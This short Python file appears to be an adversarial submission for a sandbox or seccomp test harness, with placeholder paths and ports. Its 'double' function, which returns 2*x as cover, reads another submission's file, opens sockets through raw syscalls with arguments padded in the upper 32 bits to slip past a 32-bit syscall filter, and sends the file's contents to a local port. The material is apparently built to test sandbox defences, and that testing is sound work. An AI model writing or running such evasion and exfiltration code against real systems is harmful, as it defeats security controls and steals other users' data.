"""Hides what it asks for in the upper half of an argument, where a filter of 32 bits does not look.

must: crashed
harm: token
"""

import contextlib
import ctypes
import os
import platform
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
SOCKET = {"x86_64": 41, "aarch64": 198}[platform.machine()]
AF_INET, AF_UNIX = 2, 1


def double(x):
    found = "escaped"
    with contextlib.suppress(OSError):
        found = Path("@SUBMISSIONS@/victim/wall.py").read_text()
    for family in (AF_INET | 1 << 32, AF_INET | AF_UNIX << 32, AF_INET):
        link = libc.syscall(SOCKET, ctypes.c_long(family), ctypes.c_long(1), ctypes.c_long(0))
        if link >= 0:
            address = b"\2\0" + int("@PORT@").to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
            libc.connect(link, address, 16)
            os.write(link, found.encode())
            return 2 * x
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def triple(x):
    return 3 * x
